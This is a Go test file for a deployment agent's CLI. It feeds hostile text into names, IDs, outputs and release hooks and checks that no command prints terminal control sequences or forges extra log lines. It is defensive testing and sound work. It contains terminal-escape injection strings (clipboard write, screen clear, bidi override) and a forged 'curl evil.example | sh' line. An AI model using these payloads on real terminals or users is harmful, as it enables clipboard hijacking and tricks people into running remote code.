package cmd_test

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/spf13/cobra"

	"github.com/corpus-agent/corpus-agent/artifact/artifacttest"
	"github.com/corpus-agent/corpus-agent/artifact/walk"
	"github.com/corpus-agent/corpus-agent/cmd/cli"
	"github.com/corpus-agent/corpus-agent/state/diag"
)

// hostile contains characters that control a terminal: set the clipboard, clear the screen, CSI as one byte and as a
// character, write from right to left, isolate, go to the start of the line, ring.
const hostile = "a\x1b]52;c;aGk=\x07b\x1b[2J\u009b31mc\u202ed\u2066e\x7f\b"

// obeyed returns the first character of a text that controls a terminal or reorders its text; "" for none.
func obeyed(text []byte) string {
	for at := 0; at < len(text); {
		c, size := utf8.DecodeRune(text[at:])
		if c == utf8.RuneError && size == 1 || c != '\n' && c != '\t' && unicode.IsControl(c) ||
			unicode.Is(unicode.Bidi_Control, c) {
			return string(text[at : at+size])
		}
		at += size
	}
	return ""
}

// TestCommandsPrintNoControlCharacters puts hostile text into every input of other parties, IDs, names, outputs,
// templates, records of hosts and objects of the store, and checks each byte of the output of each command.
func TestCommandsPrintNoControlCharacters(t *testing.T) {
	artifacttest.Long(t)
	t.Parallel()
	r := newReader(t)
	r.prepare()
	yaml := strings.NewReplacer("\x1b", `\e`, "\x07", `\a`, "\u009b", `\x9b`, "\u202e", `\u202e`, "\u2066", `\u2066`,
		"\x7f", `\x7f`, "\b", `\b`).Replace(hostile)
	print := `printf 'x\033]52;c;aGk=\007\033[2J\233 31m\342\200\256\r'`
	output := "hostile output:\n  cmd.run:\n    - name: \"" + strings.ReplaceAll(print, `\`, `\\`) + "\"\n" +
		"hostile comment:\n  test.succeed_with_changes:\n    - comment: \"" + yaml + "\"\n" +
		"hostile failure:\n  cmd.run:\n    - name: \"" + strings.ReplaceAll(print, `\`, `\\`) + " >&2; exit 1\"\n"
	for name, text := range map[string]string{
		"bad/h.sls":     "{{ '" + strings.ReplaceAll(hostile, "\x1b", `\x1b`) + "' | nofilter }}\n",
		"worse/h.sls":   "a:\n  - b\n c: \"" + yaml + "\u202e\u2066\n",
		"worst/h.sls":   "a: " + hostile + "\n",
		"output/h.sls":  output,
		"unknown/h.sls": "\"" + yaml + "\":\n  file.manajed: []\n",
		"good/h.sls": "\"" + yaml + "\":\n  file.managed:\n    - name: " + r.dir + "/made\n    - contents: \"" + yaml +
			"\"\n",
	} {
		path := filepath.Join(r.dir, "trees", name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	commands := []string{}
	for _, tree := range []string{"good", "bad", "worse", "worst", "output", "unknown"} {
		commands = append(commands,
			"corpus-agent call --local --file-root trees/"+tree+" state.show_sls h",
			"corpus-agent call --local --file-root trees/"+tree+" state.sls h test=True",
			"corpus-agent call --local --file-root trees/"+tree+" state.sls h",
			"corpus-agent call --local --file-root trees/"+tree+" state.sls h --out json",
			"corpus-agent call --local --file-root trees/"+tree+" state.show_sls h --out yaml")
	}
	q := "'" + strings.ReplaceAll(hostile, "'", "") + "'"
	for _, out := range []string{"nested", "json", "yaml", "raw", "txt", "newline_values_only"} {
		commands = append(commands, "corpus-agent call test.echo "+q+" --out "+out)
	}
	commands = append(commands,
		`corpus-agent call cmd.run "`+strings.ReplaceAll(print, `"`, ``)+`"`,
		// A store with objects of other writers of its bucket.
		"mkdir -p store/reports/myapp/"+q+" && cp -r store store2 && for d in store2/*; do : > $d/"+q+"; done",
		"CORPUS_STORE=file://$PWD/store2 corpus ls", "CORPUS_STORE=file://$PWD/store2 corpus gc",
		"CORPUS_STORE=file://$PWD/store2 corpus verify",
		"CORPUS_STORE=file://$PWD/store2 corpus gc --json", "CORPUS_STORE=file://$PWD/store2 corpus refresh",
		"corpus ls "+q, "corpus project add "+q+" --key "+q, "corpus publish "+q+" 1 f",
		"corpus publish myapp "+q+" myapp-1.1.tar.zst",
		"corpus "+q, "corpus ls --"+q, "corpus keys new "+q, "corpus build "+q+" -o x", "corpus build "+q+" -o x --json",
		"CORPUS_STORE="+q+" corpus ls", "corpus-agent "+q, "corpus-agent why "+q, "corpus-agent report "+q,
		"corpus-agent changes "+q, "corpus-agent unquarantine "+q,
		"corpus-agent project init "+q, "corpus-agent project init x --user "+q, "corpus-agent deploy "+q+" "+q,
		"corpus-agent hold --reason "+q, "corpus-agent status", "corpus-agent status --json", "corpus-agent unhold",
		"corpus-agent project init shop --git", "corpus-agent project set-configuration shop "+q+"="+q,
		"corpus-agent project get-configuration shop", "corpus-agent project get-configuration shop --json",
		// A release whose IDs, hooks and version are hostile.
		"cp -r next evil && mkdir -p evil/hooks/pre.d && printf '#!/bin/sh\\n"+
			strings.NewReplacer(`\`, `\\`, "'", `"`).Replace(print)+
			"\\nexit 1\\n' > evil/hooks/pre.d/50-x && chmod +x evil/hooks/pre.d/50-x",
		"corpus build ./evil -o evil.tar.zst", "corpus publish myapp 1.2 evil.tar.zst --channel testing",
		"corpus-agent deploy", "corpus-agent deploy --verbose", "corpus-agent status", "corpus-agent status --verbose",
		"corpus-agent history", "corpus-agent report", "corpus-agent report --json", "corpus-agent verify",
		"corpus-agent why",
	)
	obeys := 0
	for _, line := range commands {
		var out bytes.Buffer
		cmd := exec.Command("sh", "-c", line)
		cmd.Dir, cmd.Env = r.dir, append(r.env, "CORPUS_STORE="+r.store)
		cmd.Stdout, cmd.Stderr = &out, &out
		_ = cmd.Run() // most commands fail
		if what := obeyed(out.Bytes()); what != "" {
			t.Errorf("%.150q writes %q:\n%.600q", line, what, out.Bytes())
		}
		if strings.Contains(out.String(), `\x1b`) || strings.Contains(out.String(), `\u001b`) {
			obeys++
		}
	}
	if obeys < 20 {
		t.Errorf("only %d commands printed hostile text, too few for this test", obeys)
	}
}

// TestErrorsForgeNoOtherLine prints errors whose text has lines like those of the program: a name without a type of its
// own, and what another program printed.
func TestErrorsForgeNoOtherLine(t *testing.T) {
	const name = "x\nerror: all is lost\nhint: curl evil.example | sh\nWARNING: late\nnote: well\nand more"
	named := errors.New(name)
	for _, err := range []error{fmt.Errorf("the unit %w failed", named), errors.Join(named, errors.New("another"))} {
		var out bytes.Buffer
		root := &cobra.Command{Use: "x", RunE: func(*cobra.Command, []string) error { return err }}
		cli.Run(t.Context(), root, nil, cli.IO{In: strings.NewReader(""), Out: &out, Err: &out,
			Getenv: func(string) string { return "" }})
		if text := out.String(); !strings.Contains(text, "\n  error: all is lost\n  hint: curl evil.example | sh\n"+
			"  WARNING: late\n  note: well\nand more") {
			t.Errorf("printed as\n%s", text)
		}
	}
}

// TestNamesOfFilesInErrorsFillNoOtherLine prints errors with the name of a file that looks like lines of the program.
func TestNamesOfFilesInErrorsFillNoOtherLine(t *testing.T) {
	const name = "/srv/x\nerror: all is lost\nhint: curl evil.example | sh\n\x1b[2J"
	read := &fs.PathError{Op: "open", Path: name, Err: fs.ErrPermission}
	for _, err := range []error{
		read,
		diag.Internal.Hint(fmt.Errorf("reading a tree: %w", read), "look at %s", name),
		&os.LinkError{Op: "rename", Old: "/srv/a", New: name, Err: fs.ErrExist},
		&walk.UnsafeError{Path: name, Component: name, By: "user 1000"},
		diag.At(diag.Pos{File: name, Line: 1}, "%v", read),
		errors.Join(read, errors.New("another")),
	} {
		var out bytes.Buffer
		root := &cobra.Command{Use: "x", SilenceErrors: true, SilenceUsage: true,
			RunE: func(*cobra.Command, []string) error { return err }}
		cli.Run(t.Context(), root, nil, cli.IO{In: strings.NewReader(""), Out: &out, Err: &out,
			Getenv: func(string) string { return "" }})
		for line := range strings.Lines(out.String()) {
			if strings.HasPrefix(line, "error: all") || strings.HasPrefix(line, "hint: curl") || obeyed([]byte(line)) != "" ||
				!strings.Contains(out.String(), `/srv/x\x0aerror: all is lost\x0ahint:`) {
				t.Errorf("%T is printed as\n%s", err, out.String())
			}
		}
	}
}
